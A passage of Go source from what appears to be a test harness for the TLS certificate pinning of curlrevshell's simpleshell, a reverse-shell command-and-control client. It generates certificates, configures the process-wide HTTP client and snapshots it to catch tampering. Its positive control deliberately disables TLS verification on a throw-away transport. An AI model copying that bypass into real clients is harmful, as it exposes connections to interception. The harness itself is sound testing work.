		{valid(), spellWrong[rng.IntN(len(spellWrong))]},
		{valid(), "unpinned"},
		{self(), "unpinned"},
		{w.pickIdentity(rng), spellMalformed[rng.IntN(len(spellMalformed))]},
		{valid(), []string{"pos1", "prefixed-pos1", "exact"}[rng.IntN(3)]},
	}
	rng.Shuffle(len(steps), func(i, j int) { steps[i], steps[j] = steps[j], steps[i] })
	var specs []callSpec
	for _, st := range steps {
		s, ok := w.mkSpec(st.id, intentOf(st.class), st.class, rng)
		if !ok {
			s, _ = w.mkSpec(st.id, "right", "prefixed", rng)
		}
		s.Host, s.HostKind = genHost(kind, rng), kind
		if kind == "idn-unicode-mixedcase" {
			// net/http itself cannot talk HTTP/2 to such a host (go1.23: its HTTP/1 layer files the
			// connection under the lower-cased A-label, its HTTP/2 layer looks it up under the
			// case-preserved one and redials for ever) - with or without a fingerprint
			s.H2 = false
		}
		specs = append(specs, s)
	}
	w.runSeq("host", index, specs, sample)
}

package c13

// Process configurations: what the embedding process has put on
// http.DefaultClient before the first call to simpleshell.Go, and the
// reflective snapshot that compares it (and http.DefaultTransport) field by
// field, the TLS configuration deeply, before and after every call.

import (
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"reflect"
	"sort"
	"strings"
	"sync/atomic"
	"time"
)

// clientConfigs are the configurations of the process-wide client a child
// process may be started with.  "stock" is net/http as it comes
// (http.DefaultClient.Transport == nil).
var clientConfigs = []string{"stock", "own-fresh", "own-clone", "own-tls", "own-proxy", "own-nokeepalive", "wrapper", "replaced", "replaced-own"}

// clientConfigText says what each configuration is, for witnesses and the rule text.
var clientConfigText = map[string]string{
	"stock":           "http.DefaultClient as it comes (Transport nil)",
	"own-fresh":       "http.DefaultClient.Transport = &http.Transport{}",
	"own-clone":       "http.DefaultClient.Transport = http.DefaultTransport.(*http.Transport).Clone()",
	"own-tls":         "http.DefaultClient.Transport = &http.Transport{TLSClientConfig: &tls.Config{RootCAs: <the trusted CA>, ServerName: \"127.0.0.1\", MinVersion: TLS 1.2}, ForceAttemptHTTP2: true, TLSHandshakeTimeout, MaxIdleConns, IdleConnTimeout}",
	"own-proxy":       "http.DefaultClient.Transport = &http.Transport{Proxy: func returning (nil, nil), MaxIdleConnsPerHost: 2}",
	"own-nokeepalive": "http.DefaultClient.Transport = a Clone of http.DefaultTransport with DisableKeepAlives",
	"wrapper":         "http.DefaultClient.Transport = a counting RoundTripper (not an *http.Transport) around a Clone of http.DefaultTransport",
	"replaced":        "http.DefaultClient = &http.Client{Timeout: 10 min, Jar: cookiejar}",
	"replaced-own":    "http.DefaultClient = &http.Client{Transport: a Clone of http.DefaultTransport with ResponseHeaderTimeout, Timeout: 10 min, Jar: cookiejar}",
}

// proxyHonouringConfigs are the configurations under which an un-pinned call
// (which goes through whatever is on http.DefaultClient) consults the
// environment for a proxy.
var proxyHonouringConfigs = []string{"stock", "own-clone", "wrapper", "replaced-own", "own-nokeepalive", "replaced"}

// ownTransportConfig reports whether, under the configuration, http.DefaultClient.Transport
// is an *http.Transport of the process's own.
func ownTransportConfig(c string) bool {
	return strings.HasPrefix(c, "own-") || c == "replaced-own"
}

// clientConfigFor is the configuration of the process that runs batch number
// batchNo of an engine: a function of the two alone (replays re-create it).
// Every second process of seq / conc / single keeps the stock client; the
// processes of the same-server engine that get a session cache keep it too.
func clientConfigFor(engine string, batchNo int) string {
	nonStock := clientConfigs[1:]
	switch engine {
	case "ca":
		order := []string{"stock", "own-tls", "own-clone", "replaced-own", "own-nokeepalive", "own-fresh", "own-proxy", "wrapper", "replaced"}
		return order[batchNo%len(order)]
	case "same":
		if batchNo%2 == 1 {
			return "stock"
		}
		own := []string{"own-clone", "own-fresh", "own-tls", "replaced-own", "own-proxy", "own-nokeepalive"}
		return own[(batchNo/2)%len(own)]
	}
	if engine == "host" {
		// names reach their listener through the CONNECT proxy named by HTTPS_PROXY:
		// configurations whose transport asks http.ProxyFromEnvironment, as the stock one does
		return proxyHonouringConfigs[batchNo%len(proxyHonouringConfigs)]
	}
	if batchNo%2 == 0 {
		return "stock"
	}
	off := map[string]int{"seq": 0, "conc": 3, "single": 5}[engine]
	return nonStock[(batchNo/2+off)%len(nonStock)]
}

// countingRT is a RoundTripper that is not an *http.Transport: the kind of
// wrapper an application installs for logging or metrics.
type countingRT struct {
	inner http.RoundTripper
	n     atomic.Int64
}

func (c *countingRT) RoundTrip(req *http.Request) (*http.Response, error) {
	c.n.Add(1)
	return c.inner.RoundTrip(req)
}

// procConf is what the child knows about the configuration it has installed.
type procConf struct {
	name      string
	transport *http.Transport // the process's own transport on http.DefaultClient (nil: none)
	inner     *http.Transport // the transport inside the wrapper
	wrapper   *countingRT
	client    *http.Client // the client http.DefaultClient has been replaced with (nil: not replaced)
	proxyAsks atomic.Int64
}

// install configures the process.  It must run before the first call and
// before the first snapshot; every transport's lazy HTTP/2 set-up is triggered
// here (Clone does that) so that it is not blamed on the library later.
// Ordinary validation stays what the oracle assumes under every
// configuration: roots = the harness CA (SSL_CERT_FILE, or the same PEM as
// RootCAs), name = 127.0.0.1 (the host of every URL).
func installClientConfig(name string) (*procConf, error) {
	pc := &procConf{name: name}
	dt, ok := http.DefaultTransport.(*http.Transport)
	if !ok {
		return nil, fmt.Errorf("http.DefaultTransport is a %T", http.DefaultTransport)
	}
	if http.DefaultClient.Transport != nil {
		return nil, fmt.Errorf("http.DefaultClient.Transport is already set (%T)", http.DefaultClient.Transport)
	}
	switch name {
	case "", "stock":
		pc.name = "stock"
		return pc, nil
	case "own-fresh":
		pc.transport = &http.Transport{}
	case "own-clone":
		pc.transport = dt.Clone()
	case "own-tls":
		pem, err := os.ReadFile(os.Getenv("SSL_CERT_FILE"))
		if err != nil {
			return nil, err
		}
		pool := x509.NewCertPool()
		if !pool.AppendCertsFromPEM(pem) {
			return nil, fmt.Errorf("no certificate in SSL_CERT_FILE")
		}
		pc.transport = &http.Transport{
			TLSClientConfig:     &tls.Config{RootCAs: pool, ServerName: "127.0.0.1", MinVersion: tls.VersionTLS12},
			ForceAttemptHTTP2:   true,
			TLSHandshakeTimeout: 15 * time.Second,
			MaxIdleConns:        8,
			IdleConnTimeout:     30 * time.Second,
		}
	case "own-proxy":
		pc.transport = &http.Transport{
			Proxy: func(*http.Request) (*url.URL, error) {
				pc.proxyAsks.Add(1)
				return nil, nil // "no proxy for this request"
			},
			MaxIdleConnsPerHost: 2,
		}
	case "own-nokeepalive":
		pc.transport = dt.Clone()
		pc.transport.DisableKeepAlives = true
	case "wrapper":
		pc.inner = dt.Clone()
		pc.wrapper = &countingRT{inner: pc.inner}
	case "replaced", "replaced-own":
		jar, err := cookiejar.New(nil)
		if err != nil {
			return nil, err
		}
		pc.client = &http.Client{Timeout: 10 * time.Minute, Jar: jar}
		if name == "replaced-own" {
			pc.transport = dt.Clone()
			pc.transport.ResponseHeaderTimeout = 2 * time.Minute
			pc.client.Transport = pc.transport
		}
	default:
		return nil, fmt.Errorf("unknown client configuration %q", name)
	}
	for _, t := range []*http.Transport{pc.transport, pc.inner} {
		if t != nil {
			t.Clone() // lazy HTTP/2 set-up (TLSNextProto, TLSClientConfig.NextProtos) now
		}
	}
	switch {
	case pc.client != nil:
		http.DefaultClient = pc.client
	case pc.wrapper != nil:
		http.DefaultClient.Transport = pc.wrapper
	default:
		http.DefaultClient.Transport = pc.transport
	}
	return pc, nil
}

// inPlace reports whether the configuration is still installed (identities only).
func (pc *procConf) inPlace() bool {
	switch {
	case pc.client != nil:
		return http.DefaultClient == pc.client && (pc.transport == nil && pc.client.Transport == nil || pc.client.Transport == http.RoundTripper(pc.transport))
	case pc.wrapper != nil:
		return http.DefaultClient.Transport == http.RoundTripper(pc.wrapper) && pc.wrapper.inner == http.RoundTripper(pc.inner)
	case pc.transport != nil:
		return http.DefaultClient.Transport == http.RoundTripper(pc.transport)
	}
	return http.DefaultClient.Transport == nil
}

// ---- reflective snapshot --------------------------------------------------------

// snapValue writes one value under key: scalars by value, functions / pointers /
// channels / interfaces by identity, maps by identity and sorted keys, slices
// by identity, length and (for scalars) elements, structs and *tls.Config
// field by field (exported fields only).
func snapValue(key string, v reflect.Value, m map[string]string, depth int) {
	switch v.Kind() {
	case reflect.Bool, reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64,
		reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64, reflect.Uintptr,
		reflect.Float32, reflect.Float64, reflect.String:
		m[key] = fmt.Sprintf("%v", v)
	case reflect.Func, reflect.Chan, reflect.UnsafePointer:
		if v.IsNil() {
			m[key] = "nil"
		} else {
			m[key] = fmt.Sprintf("%s@%#x", v.Type(), v.Pointer())
		}
	case reflect.Interface:
		if v.IsNil() {
			m[key] = "nil"
			return
		}
		e := v.Elem()
		switch e.Kind() {
		case reflect.Pointer, reflect.Func, reflect.Map, reflect.Chan, reflect.Slice, reflect.UnsafePointer:
			m[key] = fmt.Sprintf("%s@%#x", e.Type(), e.Pointer())
		default:
			m[key] = fmt.Sprintf("%s=%v", e.Type(), e)
		}
	case reflect.Pointer:
		if v.IsNil() {
			m[key] = "nil"
			return
		}
		m[key] = fmt.Sprintf("%s@%#x", v.Type(), v.Pointer())
		if depth > 0 && v.Type() == reflect.TypeOf((*tls.Config)(nil)) {
			snapStruct(key, v.Elem(), m, depth-1)
		}
	case reflect.Map:
		if v.IsNil() {
			m[key] = "nil"
			return
		}
		ks := make([]string, 0, v.Len())
		for _, k := range v.MapKeys() {
			ks = append(ks, fmt.Sprintf("%v", k))
		}
		sort.Strings(ks)
		m[key] = fmt.Sprintf("%s@%#x keys=%v", v.Type(), v.Pointer(), ks)
	case reflect.Slice:
		if v.IsNil() {
			m[key] = "nil"
			return
		}
		s := fmt.Sprintf("%s@%#x len=%d", v.Type(), v.Pointer(), v.Len())
		switch v.Type().Elem().Kind() {
		case reflect.String, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Int, reflect.Int32:
			if v.Len() <= 64 {
				s += fmt.Sprintf(" %v", v)
			}
		}
		m[key] = s
	case reflect.Array:
		m[key] = fmt.Sprintf("%v", v)
	case reflect.Struct:
		if depth > 0 {
			snapStruct(key, v, m, depth-1)
		}
	default:
		m[key] = "(" + v.Kind().String() + ")"
	}
}

func snapStruct(prefix string, v reflect.Value, m map[string]string, depth int) {
	t := v.Type()
	for i := 0; i < t.NumField(); i++ {
		f := t.Field(i)
		if !f.IsExported() {
			continue
		}
		snapValue(prefix+"."+f.Name, v.Field(i), m, depth)
	}
}

// snapTransport writes every exported field of t, its TLS configuration deeply.
func snapTransport(prefix string, t *http.Transport, m map[string]string) {
	if t == nil {
		m[prefix] = "*http.Transport(nil)"
		return
	}
	snapStruct(prefix, reflect.ValueOf(t).Elem(), m, 2)
}

// snapClient writes what the statement calls "default HTTP client settings":
// http.DefaultClient (identity and fields), its transport when that is an
// *http.Transport (or the harness's wrapper around one), http.DefaultTransport.
func snapClient(pc *procConf) map[string]string {
	m := map[string]string{}
	c := http.DefaultClient
	m["DefaultClient"] = ident(c)
	if c != nil {
		m["DefaultClient.Transport"] = ident(c.Transport)
		m["DefaultClient.CheckRedirect"] = ident(c.CheckRedirect)
		m["DefaultClient.Jar"] = ident(c.Jar)
		m["DefaultClient.Timeout"] = c.Timeout.String()
		switch t := c.Transport.(type) {
		case *http.Transport:
			snapTransport("DefaultClient.Transport", t, m)
		case *countingRT:
			m["DefaultClient.Transport(wrapper).inner"] = ident(t.inner)
			if it, ok := t.inner.(*http.Transport); ok {
				snapTransport("DefaultClient.Transport(wrapper).inner", it, m)
			}
		}
	}
	// the process's own objects, even if they are no longer where it put them
	if pc != nil {
		if pc.transport != nil && (c == nil || c.Transport != http.RoundTripper(pc.transport)) {
			snapTransport("process-own-transport", pc.transport, m)
		}
		if pc.client != nil {
			m["process-own-client.Transport"] = ident(pc.client.Transport)
			m["process-own-client.Jar"] = ident(pc.client.Jar)
			m["process-own-client.Timeout"] = pc.client.Timeout.String()
			m["process-own-client.CheckRedirect"] = ident(pc.client.CheckRedirect)
		}
	}
	m["DefaultTransport"] = ident(http.DefaultTransport)
	if t, ok := http.DefaultTransport.(*http.Transport); ok && t != nil {
		snapTransport("DefaultTransport", t, m)
	}
	return m
}

// snapshotControl is the positive control of the snapshot monitor: on a
// throw-away transport configured like the process's own, the harness itself
// does what a careless library would do (replace the TLS configuration; edit it
// in place; flip a field) and the monitor must report each of the three.
func snapshotControl(like *http.Transport) error {
	var t *http.Transport
	if like != nil {
		t = like.Clone()
	} else {
		t = http.DefaultTransport.(*http.Transport).Clone()
	}
	if t.TLSClientConfig == nil {
		t.TLSClientConfig = &tls.Config{}
	}
	take := func() map[string]string {
		m := map[string]string{}
		snapTransport("control", t, m)
		return m
	}
	has := func(d []string, sub string) bool {
		for _, s := range d {
			if strings.Contains(s, sub) {
				return true
			}
		}
		return false
	}
	a := take()
	if d := snapDiff(a, take()); len(d) != 0 {
		return fmt.Errorf("two snapshots of an untouched transport differ: %v", d)
	}
	t.TLSClientConfig.InsecureSkipVerify = true // edited in place
	if d := snapDiff(a, take()); !has(d, "control.TLSClientConfig.InsecureSkipVerify: false -> true") {
		return fmt.Errorf("in-place edit of the TLS configuration not seen: %v", d)
	}
	t.TLSClientConfig.InsecureSkipVerify = false
	old := t.TLSClientConfig
	t.TLSClientConfig = &tls.Config{InsecureSkipVerify: true, VerifyConnection: func(tls.ConnectionState) error { return nil }}
	if d := snapDiff(a, take()); !has(d, "control.TLSClientConfig: ") || !has(d, "control.TLSClientConfig.VerifyConnection: nil -> ") {
		return fmt.Errorf("replaced TLS configuration not seen: %v", d)
	}
	t.TLSClientConfig = old
	t.ForceAttemptHTTP2 = !t.ForceAttemptHTTP2
	if d := snapDiff(a, take()); !has(d, "control.ForceAttemptHTTP2: ") {
		return fmt.Errorf("flipped ForceAttemptHTTP2 not seen: %v", d)
	}
	t.ForceAttemptHTTP2 = !t.ForceAttemptHTTP2
	if d := snapDiff(a, take()); len(d) != 0 {
		return fmt.Errorf("snapshot differs after everything was put back: %v", d)
	}
	return nil
}

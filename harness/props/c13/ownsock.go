package c13

import (
	"net"
	"net/netip"
	"os"
	"strconv"
	"sync/atomic"
	"syscall"
)

// foreignConns counts connections a listener of this process accepted which
// no socket of this process made (see ownSocket).
var foreignConns atomic.Int64

// ownSocket reports whether the peer of an accepted connection is a socket of
// THIS process.  Every client the oracle speaks about lives in the process
// that runs the listener (the library under test, the harness's probe, its
// CONNECT proxy).  A listener port is drawn from the machine's ephemeral range
// and may have been another process's port a moment ago; a client of that
// process which still believes the port to be its server's (another check of
// this framework running in parallel, say) would otherwise be taken for a
// connection of the call under observation.  The test is made at once after
// accept(2), while the peer of a connection that has just been established
// still exists: the process's descriptors are walked and asked for their
// local address.
func ownSocket(remote net.Addr) bool {
	ta, ok := remote.(*net.TCPAddr)
	if !ok {
		return true
	}
	want := netip.AddrPortFrom(ta.AddrPort().Addr().Unmap(), uint16(ta.Port))
	ents, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return true // no way to tell: keep the connection
	}
	for _, e := range ents {
		fd, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		sa, err := syscall.Getsockname(fd)
		if err != nil {
			continue
		}
		var got netip.AddrPort
		switch a := sa.(type) {
		case *syscall.SockaddrInet4:
			got = netip.AddrPortFrom(netip.AddrFrom4(a.Addr), uint16(a.Port))
		case *syscall.SockaddrInet6:
			got = netip.AddrPortFrom(netip.AddrFrom16(a.Addr).Unmap(), uint16(a.Port))
		default:
			continue
		}
		if got == want {
			return true
		}
	}
	return false
}

// ownSocketControl is the positive control of ownSocket: connections this
// process makes to a listener of its own must be recognised, the listener's
// own descriptor must not make a stranger look familiar.
func ownSocketControl(n int) error {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil // no port to be had right now: nothing learnt, nothing wrong
	}
	defer l.Close()
	for i := 0; i < n; i++ {
		c, err := net.Dial("tcp", l.Addr().String())
		if err != nil {
			return nil
		}
		s, err := l.Accept()
		if err != nil {
			c.Close()
			return nil
		}
		own := ownSocket(s.RemoteAddr())
		// an address nobody here holds: the peer's port on another loopback address
		ta := *s.RemoteAddr().(*net.TCPAddr)
		ta.IP = net.IPv4(127, 0, 0, 2)
		stranger := ownSocket(&ta)
		c.Close()
		s.Close()
		if !own {
			return errOwnSocket("a connection of this process was not recognised as its own")
		}
		if stranger {
			return errOwnSocket("an address no socket of this process holds was taken for its own")
		}
	}
	return nil
}

type errOwnSocket string

func (e errOwnSocket) Error() string { return string(e) }

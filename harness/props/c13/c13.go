// Package c13: simpleshell talks only to the pinned key, the pin is per
// connection, and the process-wide HTTP client is left alone.
//
// Every call to simpleshell.Go is made in a child process (the defect this
// property is about lives in process-global state) against an endpoint of its
// own: a listener created for that call alone, so every TCP accept, TLS
// handshake, application byte and handler run is attributable to exactly one
// call.  The oracle of a call is a pure function of that call's own
// (presented chain, fingerprint string).
//
// Further dimensions live in files of their own: procconf.go (what the
// process put on http.DefaultClient), twins.go (certificates that agree in
// everything but the key, called in both orders within one process), hosts.go
// (the host of the C2 URL spelled as a name: root dot, case, IDN; reached
// through a CONNECT proxy named by HTTPS_PROXY), cli.go (the command-line tool
// lib/simpleshell/cmd/simpleshell built with and without compile-time values and
// run as a child process: flag × environment variable × compile-time value, the
// oracle applied to the effective fingerprint by the documented precedence).
package c13

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"log"
	"math/big"
	mrand "math/rand/v2"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

const Level = "exploration"

// ---- identities ---------------------------------------------------------------

// identity is what one server presents: a chain (leaf first) and the leaf's
// private key.  Class says how ordinary validation must treat it, by
// construction.
type identity struct {
	ID    int      `json:"id"`
	Class string   `json:"class"` // selfsigned | ca-valid | ca-wrongsan | ca-expired | ca-untrusted
	Chain [][]byte `json:"chain"` // DER, leaf first
	Key   []byte   `json:"key"`   // PKCS#8 of the leaf key
	// Group > 0: member of a certificate-twin group (twins.go): certificates that agree in
	// everything but the key (clone), or in nothing but the key (recert), with the group's "real".
	Group int    `json:"twin_group,omitempty"`
	Role  string `json:"twin_role,omitempty"` // real | clone | clone2 | recert
	// Long != "": a long-chain identity (longchains.go), kept in a file of its own and loaded by
	// the processes of the long engine only.  Omitted = certificates of its hierarchy the server
	// does NOT present (the root).
	Long    string   `json:"long_chain_kind,omitempty"`
	Omitted [][]byte `json:"not_presented,omitempty"`

	pins        [][]byte // sha256(RawSubjectPublicKeyInfo) of every presented certificate
	omittedPins [][]byte
	cert        tls.Certificate
}

type idFile struct {
	IDs []*identity `json:"ids"`
}

// valid reports whether ordinary validation against the harness CA and the
// name 127.0.0.1 must succeed.
func (id *identity) valid() bool { return id.Class == "ca-valid" }

type signer struct {
	cert *x509.Certificate
	key  any
}

func serial() *big.Int {
	n, _ := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), 100))
	return n.Add(n, big.NewInt(1))
}

// makeCert creates one certificate.  parent == nil ⇒ self-signed.
func makeCert(cn string, pub, priv any, parent *signer, isCA bool, ips []net.IP, dns []string, expired bool) ([]byte, error) {
	now := time.Now()
	t := &x509.Certificate{
		SerialNumber:          serial(),
		Subject:               pkix.Name{CommonName: cn, Organization: []string{"verifharness C13"}},
		NotBefore:             now.Add(-48 * time.Hour),
		NotAfter:              now.Add(48 * time.Hour),
		KeyUsage:              x509.KeyUsageDigitalSignature,
		ExtKeyUsage:           []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		BasicConstraintsValid: true,
		IPAddresses:           ips,
		DNSNames:              dns,
	}
	if expired {
		t.NotAfter = now.Add(-24 * time.Hour)
	}
	if isCA {
		t.IsCA = true
		t.KeyUsage |= x509.KeyUsageCertSign
		t.ExtKeyUsage = nil
	}
	pc, pk := t, priv
	if parent != nil {
		pc, pk = parent.cert, parent.key
	}
	return x509.CreateCertificate(rand.Reader, t, pc, pub, pk)
}

func p256() (*ecdsa.PrivateKey, error) { return ecdsa.GenerateKey(elliptic.P256(), rand.Reader) }

// extraCert is an unrelated self-signed certificate (its key is thrown away);
// every other one carries an Ed25519 key so that the chain holds different
// SubjectPublicKeyInfo shapes.
func extraCert(n int) ([]byte, error) {
	if n%2 == 1 {
		pub, priv, err := ed25519.GenerateKey(rand.Reader)
		if err != nil {
			return nil, err
		}
		return makeCert(fmt.Sprintf("c13 extra %d", n), pub, priv, nil, false, nil, []string{"extra.invalid"}, false)
	}
	k, err := p256()
	if err != nil {
		return nil, err
	}
	return makeCert(fmt.Sprintf("c13 extra %d", n), &k.PublicKey, k, nil, false, nil, []string{"extra.invalid"}, false)
}

// exoticCert is a certificate whose SubjectPublicKeyInfo names an algorithm
// crypto/x509 does not know (Ed448's OID patched over Ed25519's): Go parses it
// with PublicKey == nil.  Its signature (by an ECDSA key) is never looked at.
func exoticCert(by *signer) ([]byte, error) {
	pub, _, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, err
	}
	der, err := makeCert("c13 extra with a key type unknown to crypto/x509", pub, nil, by, false, nil, []string{"exotic.invalid"}, false)
	if err != nil {
		return nil, err
	}
	oid := []byte{0x06, 0x03, 0x2b, 0x65, 0x70}
	if bytes.Count(der, oid) != 1 {
		return nil, fmt.Errorf("exotic certificate: Ed25519 OID found %d times", bytes.Count(der, oid))
	}
	der = bytes.Replace(der, oid, []byte{0x06, 0x03, 0x2b, 0x65, 0x71}, 1)
	c, err := x509.ParseCertificate(der)
	if err != nil {
		return nil, err
	}
	if c.PublicKey != nil {
		return nil, fmt.Errorf("exotic certificate: key unexpectedly parsed as %T", c.PublicKey)
	}
	return der, nil
}

var loop = []net.IP{net.ParseIP("127.0.0.1")}

// genIdentities makes nSelf self-signed identities with chains of 1–3
// certificates and nCA of each CA-signed class, and returns the CA (PEM).
func genIdentities(nSelf, nCA, nTwin int) ([]*identity, []byte, *signer, []byte, error) {
	var ids []*identity
	add := func(class string, key *ecdsa.PrivateKey, chain ...[]byte) error {
		kb, err := x509.MarshalPKCS8PrivateKey(key)
		if err != nil {
			return err
		}
		ids = append(ids, &identity{ID: len(ids), Class: class, Chain: chain, Key: kb})
		return nil
	}
	nx := 0
	for i := 0; i < nSelf; i++ {
		k, err := p256()
		if err != nil {
			return nil, nil, nil, nil, err
		}
		leaf, err := makeCert(fmt.Sprintf("c13 self %d", i), &k.PublicKey, k, nil, false, loop, nil, false)
		if err != nil {
			return nil, nil, nil, nil, err
		}
		chain := [][]byte{leaf}
		for j := 0; j < 2-i%3; j++ { // lengths 3,2,1,3,2,1,…
			nx++
			x, err := extraCert(nx)
			if err != nil {
				return nil, nil, nil, nil, err
			}
			chain = append(chain, x)
		}
		if err := add("selfsigned", k, chain...); err != nil {
			return nil, nil, nil, nil, err
		}
	}
	mkCA := func(cn string) (*signer, []byte, error) {
		k, err := p256()
		if err != nil {
			return nil, nil, err
		}
		der, err := makeCert(cn, &k.PublicKey, k, nil, true, nil, nil, false)
		if err != nil {
			return nil, nil, err
		}
		c, err := x509.ParseCertificate(der)
		if err != nil {
			return nil, nil, err
		}
		return &signer{c, k}, der, nil
	}
	ca, caDER, err := mkCA("c13 harness CA (trusted through SSL_CERT_FILE)")
	if err != nil {
		return nil, nil, nil, nil, err
	}
	other, otherDER, err := mkCA("c13 harness CA (NOT trusted)")
	if err != nil {
		return nil, nil, nil, nil, err
	}
	for i := 0; i < nCA; i++ {
		for _, class := range []string{"ca-valid", "ca-wrongsan", "ca-expired", "ca-untrusted"} {
			k, err := p256()
			if err != nil {
				return nil, nil, nil, nil, err
			}
			s, ips, dns, exp := ca, loop, sanNames, false
			switch class {
			case "ca-wrongsan":
				ips, dns = []net.IP{net.ParseIP("127.0.0.2")}, []string{"c13.invalid"}
			case "ca-expired":
				exp = true
			case "ca-untrusted":
				s = other
			}
			leaf, err := makeCert(fmt.Sprintf("c13 %s %d", class, i), &k.PublicKey, k, s, false, ips, dns, exp)
			if err != nil {
				return nil, nil, nil, nil, err
			}
			chain := [][]byte{leaf}
			switch {
			case class == "ca-untrusted":
				chain = append(chain, otherDER)
			case i%3 == 1:
				chain = append(chain, caDER)
			case i%3 == 2:
				nx++
				x, err := extraCert(nx)
				if err != nil {
					return nil, nil, nil, nil, err
				}
				chain = append(chain, caDER, x)
			}
			if err := add(class, k, chain...); err != nil {
				return nil, nil, nil, nil, err
			}
		}
	}
	// observation only (see observations): [leaf, certificate with an unknown key type, extra]
	{
		k, err := p256()
		if err != nil {
			return nil, nil, nil, nil, err
		}
		leaf, err := makeCert("c13 self with exotic extra", &k.PublicKey, k, nil, false, loop, nil, false)
		if err != nil {
			return nil, nil, nil, nil, err
		}
		ex, err := exoticCert(other)
		if err != nil {
			return nil, nil, nil, nil, err
		}
		x, err := extraCert(0)
		if err != nil {
			return nil, nil, nil, nil, err
		}
		if err := add("exotic-extra", k, leaf, ex, x); err != nil {
			return nil, nil, nil, nil, err
		}
	}
	// certificate twins (twins.go): same certificate content, different keys
	if err := genTwinGroups(nTwin, ca, caDER, add, func(g int, role string) {
		ids[len(ids)-1].Group, ids[len(ids)-1].Role = g, role
	}); err != nil {
		return nil, nil, nil, nil, err
	}
	return ids, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}), ca, caDER, nil
}

// load derives pins and the tls.Certificate; the pin is computed here, by the
// harness, from the bytes of the SubjectPublicKeyInfo as they are on the wire.
func (id *identity) load() error {
	id.pins = nil
	for _, der := range id.Chain {
		c, err := x509.ParseCertificate(der)
		if err != nil {
			return err
		}
		h := sha256.Sum256(c.RawSubjectPublicKeyInfo)
		id.pins = append(id.pins, h[:])
	}
	k, err := x509.ParsePKCS8PrivateKey(id.Key)
	if err != nil {
		return err
	}
	leaf, _ := x509.ParseCertificate(id.Chain[0])
	id.cert = tls.Certificate{Certificate: id.Chain, PrivateKey: k, Leaf: leaf}
	return nil
}

// ---- fingerprint spellings and the oracle -------------------------------------

const prefix = "sha256//"

// spelling classes, grouped by what the generator intends; the oracle never
// looks at the class, only at the resulting string.
var (
	spellRight     = []string{"exact", "prefixed", "pos1", "pos2", "prefixed-pos1", "noncanonical-bits", "trailing-newline", "crlf-inside"}
	spellWrong     = []string{"other-server", "prefixed-other", "bitflip-lo", "bitflip-hi", "bitflip-last", "zero", "cert-hash"}
	spellMalformed = []string{"double-prefix", "no-padding", "prefixed-no-padding", "urlsafe", "len31", "len33", "prefix-only", "garbage", "trailing-space", "leading-space", "hex", "upper-prefix", "single-slash-prefix", "prefixed-len31"}
	// whitespace-only strings (with or without the prefix in front): configured, hence
	// not "no fingerprint", and certainly not the base64 of 32 bytes
	spellBlank = []string{"blank-space", "blank-tab", "blank-lf", "blank-cr", "blank-crlf", "blank-nbsp", "blank-spaces", "blank-mixed", "prefix-space", "prefix-lf", "prefix-mixed"}
	// a pin with whitespace around it; what the oracle makes of each follows from the
	// string alone (CR/LF are skipped by RFC 4648 decoders, anything else is not base64)
	spellPaddedRight     = []string{"lf-padded", "crlf-leading", "prefix-lf-pin"}
	spellPaddedWrong     = []string{"wrong-pin-lf-padded"}
	spellPaddedMalformed = []string{"tab-padded", "nbsp-padded", "space-both", "mixed-padded", "prefix-space-pin", "space-before-prefix", "lf-before-prefix", "wrong-pin-tab-padded"}
	spellWhitespace      = append(append(append(append([]string{}, spellBlank...), spellPaddedRight...), spellPaddedWrong...), spellPaddedMalformed...)
	spellAll             = append(append(append(append([]string{"unpinned"}, spellRight...), spellWrong...), spellMalformed...), spellWhitespace...)
)

// whitespace is what strings.TrimSpace / unicode.IsSpace call white space.
var whitespace = []string{" ", "\t", "\n", "\r", "\v", "\f", "\u00a0", "\u0085", "\u2003", "\u3000"}

// blanks draws n white-space characters; with needOther at least one of them is
// neither CR nor LF.
func blanks(rng *mrand.Rand, n int, needOther bool) string {
	var sb strings.Builder
	other := -1
	if needOther {
		other = rng.IntN(n)
	}
	for i := 0; i < n; i++ {
		c := whitespace[rng.IntN(len(whitespace))]
		for i == other && (c == "\n" || c == "\r") {
			c = whitespace[rng.IntN(len(whitespace))]
		}
		sb.WriteString(c)
	}
	return sb.String()
}

// whitespaceKind classifies a fingerprint string by its white space alone:
// "blank" = configured but nothing except white space (after an optional
// prefix), "padded" = white space at either end of what is left, "" = neither.
func whitespaceKind(fp string) string {
	rest := strings.TrimPrefix(fp, prefix)
	switch {
	case rest == "":
		return ""
	case strings.TrimSpace(rest) == "":
		return "blank"
	case strings.TrimSpace(fp) != fp || strings.TrimSpace(rest) != rest:
		return "padded"
	}
	return ""
}

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// spell builds the fingerprint string of a class for identity id; ok is false
// when the class does not exist for this chain (pos2 on a one-certificate chain).
func spell(class string, id *identity, all []*identity, rng *mrand.Rand) (fp string, ok bool) {
	p := id.pins[0]
	flip := func(lo, hi int) string {
		q := bytes.Clone(p)
		bit := lo*8 + rng.IntN((hi-lo)*8)
		q[bit/8] ^= 1 << (bit % 8)
		return b64(q)
	}
	otherPin := func() []byte {
		for try := 0; try < 64; try++ {
			o := all[rng.IntN(len(all))]
			q := o.pins[rng.IntN(len(o.pins))]
			own := false
			for _, mine := range id.pins {
